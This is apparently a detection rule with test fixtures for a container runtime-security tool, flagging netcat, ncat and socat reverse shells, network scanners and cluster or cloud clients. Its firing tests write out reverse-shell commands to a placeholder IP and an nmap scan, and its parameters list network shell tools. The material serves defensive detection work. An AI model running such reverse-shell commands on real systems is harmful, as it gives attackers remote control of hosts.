import { containsAny, defineDetection, isOneOf, startsWithAny, strings, type SyscallEvent, syscalls } from "portcullis";
import { inContainer, newProcess, place } from "./events.ts";
import { build, node, proxy, started, web, worker } from "./fixtures.ts";

export default defineDetection({
  title: "A tool to move through the network was started in a container",
  description: "Scanners find the next victim, netcat carries a shell there, and clients of clusters and clouds use the credentials found on the way. Workloads seldom need any of them.",
  severity: "medium",
  frameworks: { nsa: { "1.2": ["log/alerts"] }, owasp: { "2022": ["K05"], "2025": ["K10", "K08"] }, seed: ["H07"] },
  techniques: ["T1059.004", "T1046", "T1040", "T1095"],
  source: syscalls(),
  parameters: {
    tools: strings({ default: ["nc", "ncat", "netcat", "nmap", "socat", "tcpdump", "tshark", "zmap", "masscan", "telnet"], description: "Tools that scan, listen in or connect to anything." }),
    clients: strings({ default: ["kubectl", "crictl", "ctr", "docker", "helm", "aws", "gcloud", "az"], description: "Clients of clusters, container runtimes and clouds." }),
    allowedImages: strings({ default: [], description: "Repositories of images in which the listed tools and clients are used by design. A shell that is tied to the network is reported there too." }),
  },
  rules: {
    a: {
      title: "A program was tied to the network by a tool in a container",
      when: ({ event }) => newProcess(event) && inContainer(event) && ((isNetcat(event) && containsAny(event["proc.cmdline"], [" -e", " -c"])) || (event["proc.name"] === "ncat" && containsAny(event["proc.cmdline"], [" --exec", " --sh-exec", " --lua-exec", " -e ", " -c "])) || (event["proc.name"] === "socat" && containsAny(event["proc.cmdline"], ["EXEC:", "SYSTEM:", "exec:", "system:"]))),
      fields: ["proc.cmdline", "proc.pname", ...place],
    },
    b: {
      title: "A network tool was started in a container",
      when: ({ event, parameters }) => newProcess(event) && inContainer(event) && (isOneOf(event["proc.name"], parameters.tools) || isApplet(event)) && !isPortCheck(event) && !isOneOf(event["container.image.repository"], parameters.allowedImages),
      fields: ["proc.cmdline", "proc.pname", ...place],
    },
    c: {
      title: "A client of a cluster, runtime or cloud was started in a container",
      when: ({ event, parameters }) => newProcess(event) && inContainer(event) && isOneOf(event["proc.name"], parameters.clients) && !isOneOf(event["container.image.repository"], parameters.allowedImages),
      fields: ["proc.cmdline", "proc.pname", ...place],
    },
  },
  response: "Ask who works in the container. Without an answer, cut the pod off with a network policy and look at what the tool talked to.",
  fires: [
    { name: "a reverse shell by netcat", event: { ...worker, ...started("nc", "nc -e /bin/sh 203.0.113.66 9001") }, findings: ["a", "b"] },
    { name: "by the applet of busybox", event: { ...worker, ...started("busybox", "busybox nc 203.0.113.66 9001 -e sh") }, findings: ["a", "b"] },
    { name: "by ncat", event: { ...worker, ...started("ncat", "ncat 203.0.113.66 9001 --sh-exec bash") }, findings: ["a", "b"] },
    { name: "by socat, whose words may be small", event: { ...worker, ...started("socat", "socat tcp:203.0.113.66:9001 exec:bash,pty") }, findings: ["a", "b"] },
    { name: "in an image whose tools are allowed", event: { ...build, ...started("nc", "nc -e /bin/sh 203.0.113.66 9001") }, parameters: { allowedImages: ["registry.example.com/ci/builder"] }, findings: ["a"] },
    { name: "a scan", event: { ...worker, ...started("nmap", "nmap -sT 10.244.0.0/16") }, findings: ["b"] },
    { name: "a client of the cluster", event: { ...web, ...started("kubectl", "kubectl auth can-i --list") }, findings: ["c"] },
  ],
  quiet: [
    { name: "an init container waits for its database", event: { ...worker, ...started("nc", "nc -z db.shop.svc 5432") } },
    { name: "a probe asks whether a port is open", event: { ...web, ...started("nc", "nc -vz -w 1 localhost 6379", "runc") } },
    { name: "a build runner whose image is allowed", event: { ...build, ...started("helm", "helm upgrade shop ./chart") }, parameters: { allowedImages: ["registry.example.com/ci/builder"] } },
    { name: "a mesh's agent", event: { ...proxy, ...started("pilot-agent", "pilot-agent wait", "runc") } },
    { name: "another applet", event: { ...web, ...started("busybox", "busybox wget -q -O - http://localhost:8080/healthz", "runc") } },
    { name: "an administrator on the node", event: { ...node, ...started("crictl", "crictl ps", "bash", 34818) } },
  ],
});

const isNetcat = (event: SyscallEvent): boolean => isOneOf(event["proc.name"], ["nc", "netcat", "nc.openbsd", "nc.traditional"]) || startsWithAny(event["proc.cmdline"], ["busybox nc "]);

/** Whether busybox was started under its own name as one of these tools; by a link it has the tool's name. */
const isApplet = (event: SyscallEvent): boolean => startsWithAny(event["proc.cmdline"], ["busybox nc ", "busybox telnet "]);

// The catalogue counts these; they send nothing, and are how init containers and probes everywhere wait for a port.
const isPortCheck = (event: SyscallEvent): boolean => isNetcat(event) && containsAny(event["proc.cmdline"], [" -z", " -vz", " -nz", " -nvz", " -vnz"]) && !containsAny(event["proc.cmdline"], [" -e", " -c"]);
